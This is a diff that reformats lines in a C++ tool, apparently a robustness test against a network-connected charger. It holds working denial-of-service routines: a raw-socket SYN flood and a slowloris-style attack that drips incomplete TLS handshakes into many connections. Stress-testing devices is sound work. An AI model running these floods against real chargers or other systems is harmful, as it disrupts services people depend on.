@@ -77,7 +77,8 @@ void flood_with_syn(const Charger& charger) {
         segment.tcp.seq = htonl(i * 2'654'435'761u);
         segment.tcp.check = 0;
         segment.tcp.check = checksum_of(segment);
-        if (::sendto(raw, &segment, sizeof segment, 0, reinterpret_cast<const sockaddr*>(&to), sizeof to) == sizeof segment) ++sent;
+        if (::sendto(raw, &segment, sizeof segment, 0, reinterpret_cast<const sockaddr*>(&to), sizeof to) == sizeof segment)
+            ++sent;
     }
     ::close(raw);
     std::printf("%d SYN\n", sent);
@@ -92,10 +93,12 @@ void drip_into_connections(const Charger& charger) {
     int refused = 0;
     for (int i = 0; i < 200; ++i) {
         const int socket = ::socket(AF_INET6, SOCK_STREAM | SOCK_NONBLOCK, 0);
-        if (::connect(socket, reinterpret_cast<const sockaddr*>(&to), sizeof to) == 0 || errno == EINPROGRESS) sockets.push_back(socket);
+        if (::connect(socket, reinterpret_cast<const sockaddr*>(&to), sizeof to) == 0 || errno == EINPROGRESS)
+            sockets.push_back(socket);
         else ++refused;
     }
-    constexpr unsigned char hello[] = {0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03};   // and 500 octets that never come
+    constexpr unsigned char hello[] = {0x16, 0x03, 0x01, 0x02, 0x00, 0x01,
+                                       0x00, 0x01, 0xfc, 0x03, 0x03};  // and 500 octets that never come
     int octets = 0, ended = 0;
     for (std::size_t turn = 0; turn < 30; ++turn) {
         for (int& socket : sockets) {
@@ -110,7 +113,8 @@ void drip_into_connections(const Charger& charger) {
         }
         ::usleep(100'000);   // this is the attack: slowly
     }
-    std::printf("%zu slow connections, %d refused at once, %d ended by the charger, %d octets\n", sockets.size(), refused, ended, octets);
+    std::printf("%zu slow connections, %d refused at once, %d ended by the charger, %d octets\n", sockets.size(), refused, ended,
+                octets);
     std::fflush(stdout);
 }
 
